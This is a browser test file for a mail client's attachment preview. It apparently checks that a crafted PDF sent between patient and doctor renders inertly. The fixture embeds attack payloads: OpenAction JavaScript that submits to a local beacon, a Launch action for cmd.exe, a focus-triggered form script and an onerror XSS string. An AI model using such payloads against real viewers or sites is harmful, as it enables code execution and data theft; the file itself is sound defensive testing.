import { expect, fixture } from '@open-wc/testing';
import { html } from 'lit';
import '../../src/elements/provider/seal-provider.js';
import '../../src/elements/thread/seal-thread.js';
import type { SealThread } from '../../src/elements/thread/thread.js';
import { pdfBytes } from '../../stories/support/attachment-files.js';
import { createScenario, disposeScenarios } from '../../stories/support/scenario.js';
import { waitFor } from '../helpers/clients.js';

declare global {
  interface Window {
    __sealPwned?: string;
  }
}

/** Where the PDF's actions try to send the reader (nothing listens there). */
const BEACON = 'http://127.0.0.1:9/sealbox-beacon';

/**
 * A PDF that tries everything a PDF can do besides being read: JavaScript when opened, a link that
 * covers the whole page, a Launch action, a form field that runs JavaScript when focused, and markup in
 * its text.
 * Objects 1–5 are the document and its page (see pdfBytes); 6–9 are these.
 */
function activePdf(): Uint8Array<ArrayBuffer> {
  const js = `window.__sealPwned = 'pdf'; app.launchURL('${BEACON}?openaction', true); this.submitForm('${BEACON}?form');`;
  return pdfBytes('Your results are ready <img src=x onerror="window.__sealPwned=1">', {
    catalog: `/OpenAction 6 0 R /AcroForm << /Fields [8 0 R] >> /Names << /JavaScript << /Names [(run) 6 0 R] >> >> `,
    page: '/Annots [7 0 R 8 0 R 9 0 R] ',
    objects: [
      `<< /S /JavaScript /JS (${js.replace(/[()\\]/g, '\\$&')}) >>`,
      `<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /Border [0 0 0] /A << /S /URI /URI (${BEACON}?link) >> >>`,
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (ssn) /V (type here) /Rect [72 600 300 630] /P 4 0 R /AA << /Fo 6 0 R >> >>`,
      `<< /Type /Annot /Subtype /Link /Rect [72 500 300 530] /A << /S /Launch /F (cmd.exe) >> >>`,
    ],
  });
}

describe('attack: a sender attaches a PDF with scripts, links, a launch action and a form', () => {
  const opened: unknown[] = [];
  const realOpen = window.open;
  let beacons: PerformanceResourceTiming[] = [];
  let observer: PerformanceObserver | undefined;

  beforeEach(() => {
    window.open = (...args: unknown[]) => {
      opened.push(args);
      return null;
    };
    observer = new PerformanceObserver((list) => {
      beacons.push(...(list.getEntries() as PerformanceResourceTiming[]).filter((entry) => entry.name.startsWith(BEACON)));
    });
    observer.observe({ type: 'resource', buffered: true });
  });

  afterEach(async () => {
    window.open = realOpen;
    observer?.disconnect();
    beacons = [];
    opened.length = 0;
    delete window.__sealPwned;
    await disposeScenarios();
  });

  it('previews it as a picture and plain text only: nothing in it runs, links, opens, submits or loads', async () => {
    const scenario = await createScenario({
      people: ['ana', 'dr-lee'],
      messages: [{ from: 'ana', to: ['dr-lee'], subject: 'Results', body: 'Any news?', thread: 'labs' }],
    });
    const lee = scenario.clients['dr-lee']!;
    await lee.sync();
    await lee.send({ to: ['ana'], subject: 'Re: Results', body: 'Attached.', threadId: scenario.threadIds.labs!, attachments: [new File([activePdf()], 'results.pdf')] });
    await waitFor(async () => (await lee.listOutbox()).length === 0, 20_000, 'delivery');
    await scenario.me.sync();

    const root = await fixture(html`<seal-provider .client=${scenario.me}><seal-thread thread-id=${scenario.threadIds.labs!}></seal-thread></seal-provider>`);
    const el = root.querySelector<SealThread>('seal-thread')!;
    const shadow = el.shadowRoot!;
    const byLabel = (label: string) => [...shadow.querySelectorAll('button')].find((button) => button.getAttribute('aria-label') === label);
    await waitFor(() => byLabel('Download results.pdf'), 20_000, 'the attachment').then((button) => button.click());
    await waitFor(() => byLabel('Preview results.pdf'), 20_000, 'Preview').then((button) => button.click());

    const page = await waitFor(() => shadow.querySelector<HTMLCanvasElement>('[part~="preview-page"]'), 20_000, 'the page');
    await waitFor(() => page.width > 0 && page.getAttribute('aria-label') === 'Page 1 of 1 of results.pdf', 20_000, 'the page drawn');
    const where = location.href;

    // The reader clicks and types on the page, where the link and the form field are.
    const box = page.getBoundingClientRect();
    for (const [x, y] of [
      [0.5, 0.5],
      [0.3, 0.22],
      [0.3, 0.35],
    ] as const) {
      const at = { bubbles: true, composed: true, clientX: box.left + box.width * x, clientY: box.top + box.height * y };
      page.dispatchEvent(new MouseEvent('mousedown', at));
      page.dispatchEvent(new MouseEvent('click', at));
    }
    page.focus();
    page.dispatchEvent(new KeyboardEvent('keydown', { key: 'a', bubbles: true, composed: true }));
    await new Promise((resolve) => setTimeout(resolve, 500));

    // Its text, shown on request, stays letters: the markup in it is not parsed.
    shadow.querySelector<HTMLButtonElement>('[part~="preview-text-button"]')!.click();
    const words = shadow.querySelector('[part~="preview-text"]')!;
    await waitFor(() => words.textContent?.includes('<img src=x'), 10_000, 'the page text');
    expect(words.children).to.have.length(0);
    await new Promise((resolve) => setTimeout(resolve, 200));

    const preview = shadow.querySelector('[part~="preview"]')!;
    expect(preview.querySelectorAll('a, img, input, textarea, select, form, iframe, embed, object, script, [contenteditable]')).to.have.length(0);
    expect(window.__sealPwned).to.equal(undefined);
    expect(opened).to.deep.equal([]);
    expect(location.href).to.equal(where);
    expect(beacons.map((entry) => entry.name)).to.deep.equal([]);
  });
});
